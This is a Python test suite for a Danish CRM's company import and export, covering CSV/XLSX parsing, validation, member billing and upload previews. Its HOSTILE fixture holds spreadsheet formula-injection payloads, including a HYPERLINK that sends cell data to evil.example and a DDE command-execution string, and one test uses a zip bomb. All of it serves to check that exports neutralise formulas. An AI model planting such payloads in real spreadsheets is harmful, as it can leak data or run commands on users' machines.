"""Importing and exporting company lists, from the command line and through the upload page."""

import io
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import func, select

from crm.audit.models import AuditEntry
from crm.companies.models import Company, CompanyImport, CompanyStatus, Contact
from tests.conftest import post, valid_cvr

CVR_A, CVR_B, CVR_C = valid_cvr(9001), valid_cvr(9002), valid_cvr(9003)


def danish_csv(*rows, encoding="cp1252"):
    header = "CVR-nr.;Firmanavn;Adresse;Postnr.;By;Ejer/lejer;Antal ansatte;Grundareal (m²);Kontaktperson;E-mail"
    return ("\r\n".join([header, *rows]) + "\r\n;;;;;;;;;\r\n").encode(encoding)


def count(model, *where):
    from crm.extensions import db

    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def run_import(app, tmp_path, data, *args, name="liste.csv"):
    path = tmp_path / name
    path.write_bytes(data)
    return app.test_cli_runner().invoke(args=["companies", "import", str(path), *args])


def test_cli_imports_a_danish_excel_csv_and_a_second_run_changes_nothing(app, db, tmp_path):
    data = danish_csv(
        f'{CVR_A};"Søholm Stål; Smed ApS";Hammerholmen 4;2650;Hvidovre;Ejer;1.250;12.500,5;Åse Ærø;ase@soeholm.example',
        f"DK {CVR_B[:4]} {CVR_B[4:]};Kystholmen Fisk A/S;Kystholmen 1;2650;Hvidovre;Lejer;12;;Bo;bo@kyst.example",
    )
    first = run_import(app, tmp_path, data)
    assert first.exit_code == 0, first.output
    assert "2 nye, 0 opdaterede, 0 uændrede, 0 afviste" in first.output
    company = db.session.scalars(select(Company).where(Company.cvr == CVR_A)).one()
    assert company.name == "Søholm Stål; Smed ApS" and company.employees == 1250
    assert float(company.area_m2) == 12500.5 and company.role == "owner"
    assert company.primary_contact.name == "Åse Ærø" and "åse" in company.search_text
    second = run_import(app, tmp_path, data)
    assert "0 nye, 0 opdaterede, 2 uændrede" in second.output
    assert count(Company) == 2 and count(Contact) == 2


def test_bad_rows_are_reported_by_number_and_the_good_ones_imported(app, db, tmp_path):
    data = danish_csv(
        f"{CVR_A};God ApS;;;;Lejer;;;;",
        "12345678;Forkert Kontrolciffer ApS;;;;Lejer;;;;",
        f"{CVR_C};;;;;Lejer;;;;",
        f"{CVR_B};Ukendt Rolle ApS;;;;Forpagter;;;;",
    )
    result = run_import(app, tmp_path, data)
    assert result.exit_code == 3
    assert "Række 3 afvist" in result.output and "kontrolcifferet" in result.output
    assert "Række 4 afvist" in result.output and "Række 5 afvist" in result.output
    assert count(Company) == 1
    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "company.import")).one()
    assert entry.changes["new"] == 1 and entry.changes["rejected"] == 3


def test_strict_rejects_the_whole_file_and_dry_run_saves_nothing(app, db, tmp_path):
    data = danish_csv(f"{CVR_A};God ApS;;;;Lejer;;;;", "12345678;Dårlig ApS;;;;Lejer;;;;")
    strict = run_import(app, tmp_path, data, "--strict")
    assert strict.exit_code == 3 and count(Company) == 0
    dry = run_import(app, tmp_path, danish_csv(f"{CVR_A};God ApS;;;;Lejer;;;;"), "--dry-run")
    assert dry.exit_code == 0 and "Ville indlæse: 1 nye" in dry.output and count(Company) == 0


def test_same_cvr_twice_in_one_file_updates(app, db, tmp_path):
    data = danish_csv(f"{CVR_A};Først ApS;;;;Lejer;5;;;", f"{CVR_A};Sidst ApS;;;;Lejer;7;;;")
    run_import(app, tmp_path, data)
    company = db.session.scalars(select(Company)).one()
    assert company.name == "Sidst ApS" and company.employees == 7


def test_an_unreadable_file_is_refused_with_a_clear_message(app, db, tmp_path):
    assert "tom" in run_import(app, tmp_path, b"").output
    result = run_import(app, tmp_path, b"CVR;Navn\r\n", name="kun-overskrift.csv")
    assert result.exit_code != 0 and "ingen rækker" in result.output


def test_export_then_import_changes_nothing(app, db, tmp_path, make_company):
    from crm.companies import services

    owner = make_company(name="Rund & Tur A/S", role="owner", employees=1250, area_m2=12500.5, street="Stamholmen 9",
                         status="member", joined_on=date(2024, 3, 1))
    services.add_contact(owner, {"name": "Søren", "email": "soren@rund.example", "phone": "+45 11 22 33 44"})
    make_company(name="<b>Fed</b> ApS", status="left", left_on=date(2025, 6, 30))
    db.session.commit()
    out = tmp_path / "eksport.csv"
    result = app.test_cli_runner().invoke(args=["companies", "export", "-o", str(out)])
    assert result.exit_code == 0
    text = out.read_bytes().decode("utf-8-sig")
    assert text.splitlines()[0] == ("cvr;name;street;postal_code;city;role;employees;area_m2;industry;contact_name;"
                                    "contact_email;contact_phone;status;member_since")
    assert ";1250;12500.5;" in text and ";member;2024-03-01\r\n" in text and ";left;\r\n" in text
    again = run_import(app, tmp_path, out.read_bytes(), name="eksport.csv")
    assert again.exit_code == 0 and "0 nye, 0 opdaterede, 2 uændrede" in again.output
    xlsx = tmp_path / "eksport.xlsx"
    app.test_cli_runner().invoke(args=["companies", "export", "-o", str(xlsx)])
    again = run_import(app, tmp_path, xlsx.read_bytes(), name="eksport.xlsx")
    assert "0 nye, 0 opdaterede, 2 uændrede" in again.output, again.output


def member_list(*rows):
    """An association's member list as its secretary keeps it in Excel and saves as CSV."""
    header = "CVR-nr.;Firmanavn;Status;Medlem siden;Kontaktperson"
    return ("\r\n".join([header, *rows]) + "\r\n;;;;\r\n").encode("cp1252")


def test_an_association_member_list_makes_members_with_their_join_dates_who_are_billed(app, db, tmp_path,
                                                                                        make_company):
    from crm.contributions.schemes import payers

    known = make_company(cvr=CVR_C, name="Kendt Lejer ApS", status="invited")
    data = member_list(f"{CVR_A};Søholm Stål ApS;Medlem;01-03-2024;Åse Ærø",
                       f"{CVR_B};Kystholmen Fisk A/S;medlem;2019-11-15;Bo",
                       f"{CVR_C};Kendt Lejer ApS;Medlem;1.2.2025;",
                       f"{valid_cvr(9004)};Gammel Smedie ApS;Udmeldt;01-01-2010;")
    result = run_import(app, tmp_path, data)
    assert result.exit_code == 0, result.output
    assert "3 nye, 1 opdaterede, 0 uændrede, 0 afviste" in result.output
    companies = {c.cvr: c for c in db.session.scalars(select(Company))}
    assert [(companies[cvr].status, companies[cvr].joined_on) for cvr in (CVR_A, CVR_B, CVR_C)] == [
        (CompanyStatus.MEMBER, date(2024, 3, 1)), (CompanyStatus.MEMBER, date(2019, 11, 15)),
        (CompanyStatus.MEMBER, date(2025, 2, 1))]
    assert companies[CVR_C].id == known.id
    billed_2024 = {facts.id for facts in payers(2024)}
    assert billed_2024 == {companies[CVR_A].id, companies[CVR_B].id}  # the 2025 member is not billed for 2024
    assert {facts.id for facts in payers(2025)} == {companies[c].id for c in (CVR_A, CVR_B, CVR_C)}
    again = run_import(app, tmp_path, data)
    assert "0 nye, 0 opdaterede, 4 uændrede, 0 afviste" in again.output


def test_a_bad_date_or_status_rejects_its_row_by_number(app, db, tmp_path):
    data = member_list(f"{CVR_A};God ApS;Medlem;01-03-2024;", f"{CVR_B};Skæv Dato ApS;Medlem;30-02-2024;",
                       f"{CVR_C};Ukendt Status ApS;Passiv;01-03-2024;")
    result = run_import(app, tmp_path, data)
    assert result.exit_code == 3
    assert "Række 3 afvist: Medlem siden: «30-02-2024» er ikke en dato" in result.output
    assert "Række 4 afvist: Ukendt status «Passiv»: skriv Medlem, Inviteret eller Udmeldt" in result.output
    assert count(Company) == 1


def test_an_empty_status_or_date_keeps_what_is_stored_and_left_gets_its_day(app, db, tmp_path, make_company):
    make_company(cvr=CVR_A, name="Medlem ApS", status="member", joined_on=date(2020, 5, 1))
    make_company(cvr=CVR_B, name="Går ApS", status="member", joined_on=date(2021, 1, 1))
    make_company(cvr=CVR_C, name="Gik ApS", status="left", left_on=date(2023, 6, 30))
    data = member_list(f"{CVR_A};Medlem ApS;;;", f"{CVR_B};Går ApS;Udmeldt;;", f"{CVR_C};Gik ApS;Udmeldt;;")
    result = run_import(app, tmp_path, data)
    assert "0 nye, 1 opdaterede, 2 uændrede" in result.output, result.output
    companies = {c.cvr: c for c in db.session.scalars(select(Company))}
    assert (companies[CVR_A].status, companies[CVR_A].joined_on) == (CompanyStatus.MEMBER, date(2020, 5, 1))
    assert (companies[CVR_B].status, companies[CVR_B].left_on) == (CompanyStatus.LEFT, date.today())
    assert companies[CVR_B].joined_on == date(2021, 1, 1)
    assert companies[CVR_C].left_on == date(2023, 6, 30)  # a stored date is never moved
    assert "0 nye, 0 opdaterede, 3 uændrede" in run_import(app, tmp_path, data).output


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?q="&A1,"Klik")', "street": "+Stamholmen 1",
    "city": "@SUM(1+1)", "industry": "-2+3", "contact_name": "=cmd|' /C calc'!A0",
    "contact_phone": "+45 12 34 56 78",
}


def test_the_export_never_hands_a_spreadsheet_a_formula_and_reads_back_unchanged(staff_client, app, db, tmp_path,
                                                                                  make_company):
    from crm.companies import services

    company = make_company(**{key: value for key, value in HOSTILE.items() if not key.startswith("contact")},
                           employees=12, area_m2=4500.5)
    services.add_contact(company, {"name": HOSTILE["contact_name"], "email": "x@evil.example",
                                   "phone": HOSTILE["contact_phone"]})
    db.session.commit()
    csv_text = staff_client.get("/companies/export?format=csv").data.decode("utf-8-sig")
    for value in HOSTILE.values():
        assert f"'{value}" in csv_text.replace('""', '"'), value
    assert ";12;4500.5;" in csv_text  # numbers stay plain numbers
    sheet = load_workbook(io.BytesIO(staff_client.get("/companies/export?format=xlsx").data)).active
    header = [cell.value for cell in sheet[1]]
    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    for column, value in HOSTILE.items():
        assert cells[column].data_type != "f" and cells[column].value == f"'{value}", column
    assert (cells["employees"].value, cells["area_m2"].value) == (12, 4500.5)
    for name, data in (("eksport.csv", csv_text.encode("utf-8-sig")),
                       ("eksport.xlsx", staff_client.get("/companies/export?format=xlsx").data)):
        again = run_import(app, tmp_path, data, name=name)
        assert "0 nye, 0 opdaterede, 1 uændrede" in again.output, (name, again.output)
    db.session.refresh(company)
    assert (company.name, company.street, company.primary_contact.phone) == (
        HOSTILE["name"], HOSTILE["street"], HOSTILE["contact_phone"])


def test_the_cli_export_is_guarded_too(app, db, tmp_path, make_company):
    make_company(name="=1+1 ApS")
    db.session.commit()
    for name in ("eksport.csv", "eksport.xlsx"):
        out = tmp_path / name
        assert app.test_cli_runner().invoke(args=["companies", "export", "-o", str(out)]).exit_code == 0
    assert ";'=1+1 ApS;" in (tmp_path / "eksport.csv").read_bytes().decode("utf-8-sig")
    cell = load_workbook(tmp_path / "eksport.xlsx").active["B2"]
    assert (cell.value, cell.data_type) == ("'=1+1 ApS", "s")


def upload(client, data, filename="liste.csv"):
    return post(client, "/companies/import", {"file": (io.BytesIO(data), filename)},
                content_type="multipart/form-data")


def test_upload_preview_then_confirm_once(staff_client, db):
    data = danish_csv(f"{CVR_A};Forhåndsvist ApS;;;;Lejer;;;;", "12345678;Forkert ApS;;;;Lejer;;;;")
    response = upload(staff_client, data)
    assert response.status_code == 302
    preview = staff_client.get(response.headers["Location"]).get_data(as_text=True)
    assert "<strong>1</strong> nye" in preview and "<strong>1</strong> afvises" in preview
    assert "Række 3" in preview and "Forhåndsvist ApS" in preview
    assert count(Company) == 0  # the preview saves nothing
    upload_id = db.session.scalars(select(CompanyImport.id)).one()
    first = post(staff_client, f"/companies/import/{upload_id}/confirm")
    second = post(staff_client, f"/companies/import/{upload_id}/confirm")  # a double click
    assert first.status_code == second.status_code == 302
    assert count(Company) == 1
    done = staff_client.get(f"/companies/import/{upload_id}").get_data(as_text=True)
    assert "er indlæst" in done and "<strong>1</strong> nye" in done


def test_upload_of_a_wrong_file_is_explained(staff_client, db, app):
    response = upload(staff_client, b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", filename="billede.xlsx")
    assert response.status_code == 422
    assert count(CompanyImport) == 0
    big = upload(staff_client, b"x" * (app.config["IMPORT_MAX_BYTES"] + 1))
    assert big.status_code == 422  # within the request limit (MAX_CONTENT_LENGTH), over the import limit
    assert "Filen er større end 10 MB." in big.get_data(as_text=True)


def test_a_zip_bomb_is_refused_by_the_page_and_the_cli_and_nothing_is_imported(staff_client, app, db, tmp_path):
    from tests.companies.test_importer import zip_bomb

    bomb = zip_bomb(150)  # ~0.4 MB that unpacks to 150 MB, like the 356 KB file that took 197 s to preview
    response = upload(staff_client, bomb, filename="medlemmer.xlsx")
    assert response.status_code == 422
    assert "Excel-filen er for stor: udpakket fylder den over 64 MB." in response.get_data(as_text=True)
    assert count(CompanyImport) == 0
    result = run_import(app, tmp_path, bomb, name="medlemmer.xlsx")
    assert result.exit_code == 1
    assert "Excel-filen er for stor: udpakket fylder den over 64 MB." in result.output
    assert count(Company) == 0


def test_the_preview_is_worked_out_once_at_the_upload(staff_client, db):
    response = upload(staff_client, danish_csv(f"{CVR_A};Forhåndsvist ApS;;;;Lejer;;;;"))
    stored = db.session.scalars(select(CompanyImport)).one()
    assert stored.result["preview"]["counts"] == {"new": 1, "updated": 0, "unchanged": 0, "rejected": 0}
    first = staff_client.get(response.headers["Location"]).get_data(as_text=True)
    again = staff_client.get(response.headers["Location"]).get_data(as_text=True)
    assert first == again and "Forhåndsvist ApS" in first and "<strong>1</strong> nye" in first
